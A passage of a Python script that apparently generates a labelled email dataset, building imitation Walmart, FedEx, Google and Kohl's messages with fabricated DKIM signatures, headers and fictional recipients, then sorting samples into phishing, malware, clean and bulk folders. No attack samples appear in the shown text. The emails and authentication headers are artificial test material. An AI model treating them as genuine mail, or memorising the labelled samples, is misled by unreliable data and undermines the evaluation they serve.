<tr><td style="padding:10px 24px;font-size:13px;">Shipping to: Beverly Haines, Macon, GA 31210</td></tr>
<tr><td style="padding:18px 24px;font-size:11px;color:#74767c;background:#f2f8fd;">Questions? Visit <a href="{c('help')}" style="color:#0071dc;">Help Center</a>. <a href="{c('priv')}" style="color:#0071dc;">Privacy &amp; Security</a><br>Walmart.com, 702 SW 8th St, Bentonville, AR 72716</td></tr>
</table><img src="https://view.e.walmart.com/?qs={hexs('lwm-open', 100)}" width="1" height="1" alt=""></body></html>
"""
    head = f"""{dkim(dom, "wm2024", "From:To:Subject:Date:MIME-Version:Content-Type:Message-ID", "lwm", t)}
Received: by mta.e.walmart.com id h{tok("lwm-mta", 10, string.ascii_lowercase + string.digits)} for <{who[1]}>; {fmt(t - sec(1), "America/Chicago")}
From: "Walmart.com" <help@walmart.com>
To: <{who[1]}>
Subject: Shipped: your order 2000129-71834406
Date: {fmt(t - sec(2), "America/Chicago")}
MIME-Version: 1.0
Message-ID: <{uid("lwm-mid")}@atl1s07mta{num("lwm-m", 4)}.xt.local>
x-job: {num("lwm-job", 6)}_{num("lwm-job2", 7)}
Feedback-ID: {num("lwm-fb", 6)}:{num("lwm-fb2", 7)}:13.111.47.88:sfmktgcld"""
    add("legit-walmart-order-shipped", "clean",
        "Genuine Walmart.com 'your order shipped' notice from help@walmart.com via Salesforce Marketing Cloud (walmart.com DKIM, DMARC pass) with order lines, tracked links and the customer's own address.",
        "att", who[1], t, src, auth, head, alt(plain, html, "----=_Part_" + num("lwm-b", 7) + "_" + num("lwm-b2", 9) + "." + str(ep(t)) + "521"))


# ---- L23. FedEx delivered ----
def _l_fedex():
    who = NINA
    t = T("2025-12-01 22:16:45")
    src = Src("199.81.116.42", "mx-out2.fedex.com", "mx-out2.fedex.com", "TrackingUpdates@fedex.com")
    auth = Auth("pass", [("fedex.com", "fedex2022", "pass")], "pass", "reject", "fedex.com")
    trk = "7729" + num("lfx-t", 8)
    link = f"https://www.fedex.com/fedextrack/?trknbr={trk}&amp;trkqual={num('lfx-q', 5)}~{trk}~FDEG"
    plain = f"""FedEx

Hi. Your package was delivered Mon, 12/01/2025 at 2:11pm.

Delivered to 3811 MONTEREY BLVD, OAKLAND, CA 94619
Received by: Left at front door. Signature Service not requested.

TRACKING NUMBER {trk}
FROM Patagonia, Reno, NV, US
SHIP DATE Wed 11/26/2025
SERVICE FedEx Ground
PACKAGING TYPE Package
PIECES 1
WEIGHT 2.10 LB

Track: {link.replace('&amp;', '&')}

Get the FedEx app: https://www.fedex.com/en-us/mobile.html

This tracking update has been sent to you by FedEx on behalf of the requestor. FedEx does not validate the authenticity of the requestor and does not validate, guarantee or warrant the authenticity of the request, the requestor's message, or the accuracy of this tracking update.
(c) 2025 Federal Express Corporation. The content of this message is protected by copyright and trademark laws under U.S. and international law.
"""
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f2f2f2;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Roboto,Arial,sans-serif;color:#333;">
<tr><td style="padding:18px 24px;background:#4d148c;"><img src="https://www.fedex.com/content/dam/fedex-com/logos/logo.png" width="90" alt="FedEx"></td></tr>
<tr><td style="padding:22px 24px 6px 24px;font-size:22px;">Hi. Your package was delivered Mon, 12/01/2025 at 2:11pm.</td></tr>
<tr><td style="padding:6px 24px;font-size:14px;">Delivered to 3811 MONTEREY BLVD, OAKLAND, CA 94619<br>Received by: Left at front door. Signature Service not requested.</td></tr>
<tr><td style="padding:16px 24px;"><a href="{link}" style="background:#ff6200;color:#fff;padding:11px 26px;text-decoration:none;font-weight:bold;">OBTAIN PROOF OF DELIVERY</a></td></tr>
<tr><td style="padding:6px 24px;"><table cellpadding="4" style="font-size:13px;"><tr><td style="color:#666;">TRACKING NUMBER</td><td><a href="{link}" style="color:#007ab7;">{trk}</a></td></tr><tr><td style="color:#666;">FROM</td><td>Patagonia, Reno, NV, US</td></tr><tr><td style="color:#666;">SHIP DATE</td><td>Wed 11/26/2025</td></tr><tr><td style="color:#666;">SERVICE</td><td>FedEx Ground</td></tr><tr><td style="color:#666;">WEIGHT</td><td>2.10 LB</td></tr></table></td></tr>
<tr><td style="padding:18px 24px;font-size:10px;color:#777;">This tracking update has been sent to you by FedEx on behalf of the requestor. FedEx does not validate the authenticity of the requestor and does not validate, guarantee or warrant the authenticity of the request, the requestor's message, or the accuracy of this tracking update.<br>&copy; 2025 Federal Express Corporation. <a href="https://www.fedex.com/en-us/trust-center.html" style="color:#007ab7;">Privacy</a></td></tr>
</table></body></html>
"""
    head = f"""{dkim("fedex.com", "fedex2022", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", "lfx", t)}
Received: from tkgnotif{num("lfx-n", 2)}.prod.fedex.com (tkgnotif{num("lfx-n", 2)}.prod.fedex.com [10.{num("lfx-i", 2)}.{num("lfx-i2", 2)}.{num("lfx-i3", 2)}])
\tby mx-out2.fedex.com (Postfix) with ESMTP id {hexs("lfx-pf", 11, True)}
\tfor <{who[1]}>; {fmt(t - sec(1), "America/Chicago")}
From: FedEx <TrackingUpdates@fedex.com>
To: {who[1]}
Subject: Your package was delivered: {trk}
Date: {fmt(t - sec(2), "America/Chicago")}
Message-ID: <{num("lfx-m", 10)}.{num("lfx-m2", 6)}.{ep(t)}@tkgnotif{num("lfx-n", 2)}>
MIME-Version: 1.0"""
    add("legit-fedex-delivered", "clean",
        "Genuine FedEx 'your package was delivered' tracking update from TrackingUpdates@fedex.com (DMARC pass) with full address, shipment details and links to fedex.com.",
        "outlook", who[1], t, src, auth, head, alt(plain, html, "----=_Part_" + num("lfx-b", 7) + "_" + num("lfx-b2", 9) + "." + str(ep(t)) + "051"))


# ---- L24. Google security alert: new sign-in ----
def _l_google():
    who = EMILY
    t = T("2025-10-05 18:03:27")
    src = Src("209.85.220.73", "mail-sor-f73.google.com", "mail-sor-f73.google.com", f"3{tok('lgg-mf', 24)}@gaia.bounces.google.com")
    auth = Auth("pass", [("accounts.google.com", "20230601", "pass")], "pass", "reject", "accounts.google.com")
    link = f"https://accounts.google.com/AccountChooser?Email={who[1]}&amp;continue=https://myaccount.google.com/alert/nt/{ep(t)}000?rfn%3D325%26rfnc%3D1%26eid%3D{num('lgg-eid', 19)}%26et%3D0"
    plain = f"""New sign-in to your account

{who[1]}

We noticed a new sign-in to your Google Account on a iPhone device. If this was you, you don't need to do anything. If not, we'll help you secure your account.

Check activity
{link.replace('&amp;', '&')}

You can also see security activity at
https://myaccount.google.com/notifications

You received this email to let you know about important changes to your Google Account and services.
(c) 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
"""
    html = f"""<!DOCTYPE html><html lang="en"><head><meta name="format-detection" content="email=no"/><meta name="format-detection" content="date=no"/><style nonce="{tok('lgg-n', 22)}">.awl a {{color: #FFFFFF; text-decoration: none;}} .abml a {{color: #000000; font-family: Roboto-Medium,Helvetica,Arial,sans-serif; font-weight: bold; text-decoration: none;}}</style></head>
<body style="margin: 0; padding: 0;" bgcolor="#FFFFFF"><table width="100%" height="100%" style="min-width: 348px;" border="0" cellspacing="0" cellpadding="0" lang="en"><tr height="32" style="height: 32px;"><td></td></tr><tr align="center"><td><div itemscope itemtype="//schema.org/EmailMessage"><div itemprop="action" itemscope itemtype="//schema.org/ViewAction"><link itemprop="url" href="{link}"/><meta itemprop="name" content="Review Activity"/></div></div>
<table border="0" cellspacing="0" cellpadding="0" style="padding-bottom: 20px; max-width: 516px; min-width: 220px;"><tr><td width="8" style="width: 8px;"></td><td><div style="border-style: solid; border-width: thin; border-color:#dadce0; border-radius: 8px; padding: 40px 20px;" align="center" class="mdv2rw"><img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" aria-hidden="true" style="margin-bottom: 16px;" alt="Google">
<div style="font-family: 'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;border-bottom: thin solid #dadce0; color: rgba(0,0,0,0.87); line-height: 32px; padding-bottom: 24px;text-align: center; word-break: break-word;"><div style="font-size: 24px;">New sign-in to your account</div><table align="center" style="margin-top:8px;"><tr style="line-height: normal;"><td><a style="font-family: 'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.87); font-size: 14px; line-height: 20px;">{who[1]}</a></td></tr></table></div>
<div style="font-family: Roboto-Regular,Helvetica,Arial,sans-serif; font-size: 14px; color: rgba(0,0,0,0.87); line-height: 20px;padding-top: 20px; text-align: left;">We noticed a new sign-in to your Google Account on a iPhone device. If this was you, you don’t need to do anything. If not, we’ll help you secure your account.<div style="padding-top: 32px; text-align: center;"><a href="{link}" target="_blank" link-id="main-button-link" style="font-family: 'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif; line-height: 16px; color: #ffffff; font-weight: 400; text-decoration: none;font-size: 14px;display:inline-block;padding: 10px 24px;background-color: #4184F3; border-radius: 5px; min-width: 90px;">Check activity</a></div></div>
<div style="padding-top: 20px; font-size: 12px; line-height: 16px; color: #5f6368; letter-spacing: 0.3px; text-align: center">You can also see security activity at<br><a style="color: rgba(0, 0, 0, 0.87);text-decoration: inherit;">https://myaccount.google.com/notifications</a></div></div>
<div style="text-align: left;"><div style="font-family: Roboto-Regular,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.54); font-size: 11px; line-height: 18px; padding-top: 12px; text-align: center;"><div>You received this email to let you know about important changes to your Google Account and services.</div><div style="direction: ltr;">&copy; 2025 Google LLC, <a class="afal" style="font-family: Roboto-Regular,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.54); font-size: 11px; line-height: 18px; padding-top: 12px; text-align: center;">1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</a></div></div></div></td><td width="8" style="width: 8px;"></td></tr></table></td></tr><tr height="32" style="height: 32px;"><td></td></tr></table></body></html>
"""
    head = f"""{dkim("accounts.google.com", "20230601", "to:from:subject:message-id:feedback-id:date:mime-version:from:to:cc:subject:date:message-id:reply-to", "lgg", t, extra=f"x={ep(t) + 604800}; darn=gmail.com")}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=1e100.net; s=20230601; t={ep(t)}; x={ep(t) + 604800};
        h=to:from:subject:message-id:feedback-id:date:mime-version
         :x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;
        bh={bhash("lgg")};
        b={sigf("lgg-xg", 9)}
X-Gm-Message-State: AOJu0Y{b64("lgg-gms", 60)}
X-Google-Smtp-Source: AGHT+I{b64("lgg-gss", 60)}==
MIME-Version: 1.0
X-Received: by 2002:a05:6214:{hexs("lgg-x1", 4)}:b0:{hexs("lgg-x2", 3)}:{hexs("lgg-x3", 4)}:{hexs("lgg-x4", 4)} with SMTP id {hexs("lgg-x5", 11)}-{hexs("lgg-x6", 11)}mr{num("lgg-x7", 7)}.{num("lgg-x8", 2)}.{ep(t)}{num("lgg-x9", 3)};
 {fmt(t - sec(1), "America/Los_Angeles", paren=True)}
Date: {(t - sec(1)).strftime("%a, %d %b %Y %H:%M:%S GMT")}
From: Google <no-reply@accounts.google.com>
To: {who[1]}
Message-ID: <{tok("lgg-mid", 22)}@notifications.google.com>
Subject: Security alert
Feedback-ID: ::{tok("lgg-fb", 12)}:account-notifier
X-Notifications: {hexs("lgg-xn", 16)}
X-Notifications-Bounce-Info: A{b64("lgg-nb", 60)}NjUyNzAyOTQ0NzAyMjA5NzQ0ODA"""
    add("legit-google-security-alert", "clean",
        "Genuine Google 'Security alert: new sign-in on iPhone' from no-reply@accounts.google.com (DMARC pass) with its AccountChooser 'Check activity' link to accounts.google.com.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, "000000000000" + hexs("lgg-b", 16)))


# ---- L25. Kohl's promotion (bulk) ----
def _l_kohls():
    who = EMILY
    t = T("2025-12-14 15:02:10")
    dom = "s.kohls.com"
    src = Src("13.111.62.140", f"mta.{dom}", f"mta.{dom}", f"bounce-{num('lkh-mf', 4)}_HTML-{num('lkh-mf2', 9)}-{num('lkh-mf3', 6)}@bounce.{dom}")
    auth = Auth("pass", [(dom, "200608", "pass")], "pass", "reject", dom)
    c = lambda k: sfmc_link(f"click.{dom}", "lkh-" + k)  # noqa: E731
    plain = f"""Kohl's

Take an extra 20% off + earn $10 Kohl's Cash for every $50 spent

Use code MERRY20 at checkout. Ends 12/16.

Shop gifts: {c('shop')}

You have 640 Kohl's Rewards points. See your rewards: {c('rw')}

Offer details: {c('det')}

You are receiving this email because you signed up for Kohl's emails.
Unsubscribe: {c('un')}
Kohl's, Inc., N56 W17000 Ridgewood Dr., Menomonee Falls, WI 53051
"""
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<div style="display:none;max-height:0;overflow:hidden;">Use code MERRY20. Plus, earn Kohl's Cash. Ends 12/16.</div>
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif;">
<tr><td align="center" style="padding:14px 0;"><a href="{c('logo')}"><img src="https://image.s.kohls.com/lib/fe8d13727564047f7c/m/1/kohls-logo.png" width="120" alt="Kohl's"></a></td></tr>
<tr><td align="center"><a href="{c('hero')}"><img src="https://image.s.kohls.com/lib/fe8d13727564047f7c/m/12/1214_hero_merry20.jpg" width="600" alt="Take an extra 20% off" style="display:block;"></a></td></tr>
<tr><td align="center" style="padding:18px 30px;font-size:22px;font-weight:bold;color:#000;">Take an extra 20% off + earn $10 Kohl's Cash for every $50 spent</td></tr>
<tr><td align="center" style="font-size:15px;color:#333;">Use code <b>MERRY20</b> at checkout. Ends 12/16.</td></tr>
<tr><td align="center" style="padding:20px;"><a href="{c('shop')}" style="background:#000;color:#fff;padding:13px 34px;text-decoration:none;font-weight:bold;">SHOP GIFTS</a></td></tr>
<tr><td align="center" style="padding:10px;background:#f6f1f8;font-size:14px;color:#7c2e93;">You have <b>640</b> Kohl's Rewards points. <a href="{c('rw')}" style="color:#7c2e93;">See your rewards</a></td></tr>
<tr><td style="padding:20px 30px;font-size:10px;color:#777;line-height:15px;"><a href="{c('det')}" style="color:#777;">Offer details</a>. You are receiving this email because you signed up for Kohl's emails. <a href="{c('un')}" style="color:#777;">Unsubscribe</a> | <a href="{c('pp')}" style="color:#777;">Privacy Policy</a><br>Kohl's, Inc., N56 W17000 Ridgewood Dr., Menomonee Falls, WI 53051</td></tr>
</table><img src="https://view.{dom}/?qs={hexs('lkh-open', 120)}" width="1" height="1" alt=""></body></html>
"""
    head = f"""{dkim(dom, "200608", "From:To:Subject:Date:MIME-Version:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:Message-ID", "lkh", t)}
Received: by mta.{dom} id h{tok("lkh-mta", 10, string.ascii_lowercase + string.digits)} for <{who[1]}>; {fmt(t - sec(1), "America/Chicago")}
From: "Kohl's" <kohls@{dom}>
To: <{who[1]}>
Subject: =?UTF-8?B?{base64.b64encode("🎁 Extra 20% off + Kohl's Cash ends Tuesday".encode()).decode()}?=
Date: {fmt(t - sec(2), "America/Chicago")}
MIME-Version: 1.0
List-Unsubscribe: <{c('lu')}>, <mailto:leave-{hexs('lkh-lv', 40)}@{dom}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
x-CSA-Compliance-Source: SFMC
x-job: {num("lkh-job", 6)}_{num("lkh-job2", 7)}
Message-ID: <{uid("lkh-mid")}@atl1s07mta{num("lkh-m", 4)}.xt.local>
Feedback-ID: {num("lkh-fb", 6)}:{num("lkh-fb2", 7)}:13.111.62.140:sfmktgcld
X-SFMC-Stack: 11"""
    add("legit-kohls-promo", "bulk",
        "Genuine Kohl's holiday promotion from s.kohls.com via Salesforce Marketing Cloud (DMARC pass) with the real rewards-points balance, promo code, tracked links and one-click unsubscribe.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, "----=_Part_" + num("lkh-b", 7) + "_" + num("lkh-b2", 9) + "." + str(ep(t)) + "720"))


# ==========================================================================
# build
# ==========================================================================

BUILDERS = [v for k, v in list(globals().items()) if k.startswith(("_a_", "_m_", "_l_")) and callable(v)]


def main() -> None:
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    MESSAGES.clear()
    for build in BUILDERS:
        build()
    stems = [m["stem"] for m in MESSAGES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    lines = []
    parser = BytesParser(policy=policy.default)
    for m in MESSAGES:
        folder = REFILED.get(m["stem"], m["folder"])
        assert folder in ("phishing", "malware", "clean", "bulk"), folder
        if m["stem"].startswith(f"b{N}-legit-"):
            assert folder in ("clean", "bulk"), m["stem"]
        else:
            assert folder in ("phishing", "malware"), m["stem"]
        parsed = parser.parsebytes(m["raw"])
        for name in ("From", "To", "Subject", "Date", "Message-ID"):
            assert parsed[name] is not None, f"{m['stem']}: missing {name}"
        assert not parsed.defects, f"{m['stem']}: {parsed.defects}"
        path = MAIL / folder / f"{m['stem']}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(m["raw"])
        lines.append(f"samples/mail/{folder}/{m['stem']}.eml | {folder} | {m['desc']}")
    MANIFEST.write_text("\n".join(lines) + "\n")
    attacks = sum(1 for m in MESSAGES if "-legit-" not in m["stem"])
    print(f"wrote {len(MESSAGES)} messages ({attacks} attacks, {len(MESSAGES) - attacks} legitimate) and {MANIFEST.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
